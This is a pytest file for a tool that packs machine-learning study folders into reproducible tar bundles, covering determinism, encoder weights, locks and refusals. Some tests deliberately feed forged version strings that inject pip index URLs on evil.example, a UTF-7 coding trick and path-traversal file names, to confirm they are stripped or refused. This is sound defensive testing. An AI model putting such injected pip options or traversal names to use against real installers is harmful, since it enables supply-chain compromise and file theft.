"""A bundle is the whole of a study, the same to the byte every time, and nothing from outside its folder."""

import os
import shutil
import tarfile
import tokenize
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from analysis import report
from study.bundle import main
from study.lock import LeaseTimes, no_driver, only_driver
from study.records import PhaseCounts
from study.study_folder import open_study
from study.verify import damage
from tests.analysis.conftest import StudyPlan, edit, edit_arms, write_study_files
from tests.analysis.sections.test_efficiency import measure
from tests.disks import read_only
from trainables.errors import UserError
from trainables.evaluation.efficiency.held import HELD
from trainables.options import patched
from trainables.records import RESULT, TRIAL, Result
from trainables.sealed import read_sealed, write_sealed
from trainables.storage import Folder
from trainables.trial import write_result

WEIGHTS = "encoder/model.safetensors"


@pytest.fixture
def study(tmp_path: Path) -> Path:
    study = write_study_files(tmp_path, StudyPlan(questions=8, seeds=(0, 1), search_trials=2))
    Folder(next((study / "trials").glob("confirm-*"))).write_bytes(WEIGHTS, b"weights")
    for path in (study / "trials").iterdir():
        # Seals all files, as a trial does.
        write_result(Folder(path), read_sealed(Folder(path), RESULT, Result))
    return study


def unpacked(out: Path, into: Path) -> Path:
    with tarfile.open(out) as archive:
        archive.extractall(into, filter="data")
    (study,) = into.iterdir()
    return study


def test_a_bundle_is_a_whole_study_with_the_same_report(study: Path, tmp_path: Path) -> None:
    (study / "report").mkdir()
    (study / "report" / "report.md").write_text("found")
    (study / "log").mkdir()
    (study / "log" / "ray.log").write_text("for people")
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    again = unpacked(tmp_path / "one.tar", tmp_path / "there")
    assert again.name == study.name
    assert damage(open_study(str(again))) == []
    assert (again / "report" / "report.md").read_text() == "found"
    assert "torch" in (again / "environment.txt").read_text() or open_study(str(study)).info.versions == {}
    assert not (again / "log").exists()
    assert not list(again.glob(f"trials/*/{WEIGHTS}"))
    tables = []
    for place in (study, again):
        out = tmp_path / f"report-{len(tables)}"
        assert report.main([str(place), "--format", "csv", "--output", str(out)]) == 0
        tables.append({path.name: path.read_bytes() for path in out.rglob("*.csv")})
    assert tables[0] == tables[1]
    assert tables[0]


def test_pip_is_told_names_and_versions_and_nothing_else(study: Path, tmp_path: Path) -> None:
    forged = {
        "torch": "2.11.0+cu128",
        "numpy": "2.0\n--index-url http://evil.example/simple\nevil-package",
        "--extra-index-url http://evil.example/ # ": "1",
        "evil @ http://evil.example/evil.whl # ": "1",
        "-r": "/etc/passwd",
        "scipy": "1.0 --hash=sha256:0",
        "pandas": "2.*",
    }
    edit(study / "study.json", lambda values: values.update(versions=forged))
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    lines = (unpacked(tmp_path / "one.tar", tmp_path / "there") / "environment.txt").read_text().splitlines()
    assert [line for line in lines if not line.startswith("# ")] == ["torch==2.11.0+cu128"]
    assert "# left out: numpy 2.0 --index-url http://evil.example/simple evil-package" in lines
    assert len([line for line in lines if line.startswith("# left out: ")]) == len(forged) - 1


def test_no_remark_tells_pip_to_read_the_file_in_another_way(study: Path, tmp_path: Path) -> None:
    option = "--extra-index-url http://evil.example/simple"
    forged = f"x coding: utf-7 +AAo-{option} +AAo-evil-package+AAo-"
    # The last byte of this letter ends a line in Latin-1, which pip reads where the locale says so.
    letter = f"\N{LATIN CAPITAL LETTER A WITH RING ABOVE}{option}"
    edit(
        study / "study.json",
        lambda values: values.update(
            git_commit=forged, versions={"python": forged, "torch": "2.11.0"}, hardware={"processor": letter}
        ),
    )
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    file = unpacked(tmp_path / "one.tar", tmp_path / "there") / "environment.txt"
    assert file.read_bytes().isascii()
    with tokenize.open(file) as stream:
        # As pip reads it: in the encoding that one of the first two lines declares.
        assert [line for line in stream.read().splitlines() if not line.startswith("#")] == ["torch==2.11.0"]


def test_measurements_of_efficiency_are_packed(study: Path, tmp_path: Path) -> None:
    measure(study, {})
    measured = open_study(str(study)).measurements
    edit(
        study / "status.json",
        lambda values: values["trials"].update(measure=PhaseCounts(planned=len(measured)).model_dump()),
    )
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    again = open_study(str(unpacked(tmp_path / "one.tar", tmp_path / "there")))
    assert again.measurements == measured != {}
    assert damage(again) == []


def test_encoders_are_packed_where_asked(study: Path, tmp_path: Path) -> None:
    assert main([str(study), str(tmp_path / "all.tar"), "--with-encoders"]) == 0
    again = unpacked(tmp_path / "all.tar", tmp_path / "there")
    (weights,) = again.glob(f"trials/*/{WEIGHTS}")
    assert weights.read_bytes() == b"weights"
    assert damage(open_study(str(again))) == []


def averaging(study: Path) -> None:
    """Lets the last arm be the mean of two others."""

    def change(arms: list[dict[str, Any]]) -> list[dict[str, Any]]:
        merged = patched(arms[-1]["config"], {"steps": 0, "merging.cross_weight": 0.5})
        return [*arms[:-1], arms[-1] | {"config": merged}]

    edit_arms(study, change)


def searching_weights(study: Path) -> None:
    """As it is before the arms are chosen."""
    (study / "arms.json").unlink()
    for path in (study / "trials").glob("confirm-*"):
        shutil.rmtree(path)
    trial = Folder(next((study / "trials").glob("search-*")))
    edit(trial.local_path / TRIAL, lambda record: record.update(is_source=True))
    trial.write_bytes(WEIGHTS, b"weights")
    write_result(trial, read_sealed(trial, RESULT, Result))


def interrupted(study: Path) -> None:
    edit(study / "status.json", lambda values: values.update(state="interrupted"))


def failed(study: Path) -> None:
    """Of a complete study, too, a confirm trial that failed is run again."""
    trial = next(path for path in (study / "trials").glob("confirm-*") if not (path / WEIGHTS).exists())
    edit(trial / RESULT, lambda values: values.update(status="failed", metrics={}))


@pytest.mark.parametrize(
    ("averages", "ends"), [(averaging, interrupted), (averaging, failed), (searching_weights, interrupted)]
)
def test_encoders_that_are_left_to_be_averaged_are_always_packed(
    study: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    averages: Callable[[Path], None],
    ends: Callable[[Path], None],
) -> None:
    averages(study)
    ends(study)
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    assert "what is left of the study averages them" in capsys.readouterr().out
    again = unpacked(tmp_path / "one.tar", tmp_path / "there")
    (weights,) = again.glob(f"trials/*/{WEIGHTS}")
    trial = Folder(weights.parents[1])
    assert read_sealed(trial, RESULT, Result).files[WEIGHTS] == trial.checksum(WEIGHTS)


@pytest.mark.parametrize("change", [averaging, interrupted])
def test_encoders_that_nothing_waits_for_stay_out(study: Path, tmp_path: Path, change: Callable[[Path], None]) -> None:
    change(study)
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    assert not list(unpacked(tmp_path / "one.tar", tmp_path / "there").glob(f"trials/*/{WEIGHTS}"))


def test_what_is_still_to_be_measured_is_packed(study: Path, tmp_path: Path) -> None:
    held = next((study / "trials").glob("confirm-*")).relative_to(study) / HELD / "weights.safetensors"
    Folder(study).write_bytes(str(held), b"weights to measure")
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    assert (unpacked(tmp_path / "one.tar", tmp_path / "there") / held).read_bytes() == b"weights to measure"


def test_equal_studies_make_equal_bytes(study: Path, tmp_path: Path) -> None:
    assert main([str(study), str(tmp_path / "one.tar")]) == 0
    for path in study.rglob("*"):
        os.utime(path, (1, 1))
        path.chmod(0o700)
    os.sync()
    assert main([str(study), str(tmp_path / "two.tar")]) == 0
    assert (tmp_path / "one.tar").read_bytes() == (tmp_path / "two.tar").read_bytes()


def test_what_cannot_be_packed_is_one_sentence_and_leaves_nothing(
    study: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("mine")
    taken = tmp_path / "taken.tar"
    taken.write_text("precious")
    before = {path.name for path in tmp_path.iterdir()}

    def refused(sentence: str, out: Path = tmp_path / "new.tar") -> None:
        assert main([str(study), str(out)]) == 2
        said = capsys.readouterr().err
        assert sentence in said
        assert "Traceback" not in said
        assert {path.name for path in tmp_path.iterdir()} == before

    refused("exists already", taken)
    assert taken.read_text() == "precious"
    refused("there is no folder", tmp_path / "none" / "new.tar")
    refused("lies inside the study", study / "new.tar")
    link = study / "report"
    link.symlink_to(secret.parent)
    refused("is a link, and a study holds none")
    link.unlink()
    table = next((study / "trials").glob("confirm-*/per_query.parquet"))
    whole = table.read_bytes()
    table.write_bytes(whole[:-1])
    refused("is damaged")
    table.write_bytes(whole)


def test_a_name_that_leads_out_of_the_study_is_not_followed(study: Path, tmp_path: Path) -> None:
    """A result is sealed by whoever wrote it: a stranger may name any file in it."""
    secret = tmp_path / "secret"
    secret.write_text("mine")
    trial = Folder(next((study / "trials").glob("confirm-*")))
    result = read_sealed(trial, RESULT, Result)
    for name in ("../../../secret", str(secret)):
        files = {**result.files, name: Folder(tmp_path).checksum("secret")}
        write_sealed(trial, RESULT, result.model_copy(update={"files": files}))
        assert main([str(study), str(tmp_path / "new.tar")]) == 2
        assert not (tmp_path / "new.tar").exists()


@pytest.fixture(params=["disk", "remote storage"])
def packable(request: pytest.FixtureRequest, study: Path) -> Folder:
    if request.param == "disk":
        return Folder(study)
    remote = Folder(f"fsspec+memory://{uuid.uuid4().hex}/study")
    for path in study.rglob("*"):
        if path.is_file():
            remote.write_bytes(str(path.relative_to(study)), path.read_bytes())
    return remote


def test_a_study_that_a_driver_holds_is_not_packed_whatever_its_status_says(
    packable: Folder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "one.tar"
    with only_driver(packable, print, LeaseTimes(renewed_every=0.2, settles=0.01)):
        assert main([packable.location, str(out)]) == 2
    assert "is being run by" in capsys.readouterr().err
    assert not out.exists()
    assert main([packable.location, str(out)]) == 0


def test_a_study_whose_driver_was_killed_is_packed(study: Path, tmp_path: Path) -> None:
    """Its status goes on to say that it runs, for minutes, and where clocks jump for longer; nobody holds it."""
    edit(study / "status.json", lambda values: values.update(state="running", updated="2999-01-01T00:00:00+00:00"))
    assert open_study(str(study)).status.state == "running"
    assert main([str(study), str(tmp_path / "one.tar")]) == 0


def test_a_study_is_held_while_it_is_packed(packable: Folder) -> None:
    times = LeaseTimes(renewed_every=0.2, settles=0.01)
    with (
        no_driver(packable, print, times),
        pytest.raises(UserError, match="is being run by"),
        only_driver(packable, print, times),
    ):
        pytest.fail("it changes while it is packed")


def test_a_study_that_may_only_be_read_is_packed_unless_a_driver_holds_it(study: Path, tmp_path: Path) -> None:
    with read_only(study, tmp_path / "read only") as place:
        assert main([str(place), str(tmp_path / "one.tar")]) == 0
        with only_driver(Folder(study), print):
            assert main([str(place), str(tmp_path / "two.tar")]) == 2
        assert main([str(place), str(tmp_path / "two.tar")]) == 0
    assert (tmp_path / "one.tar").read_bytes() == (tmp_path / "two.tar").read_bytes()
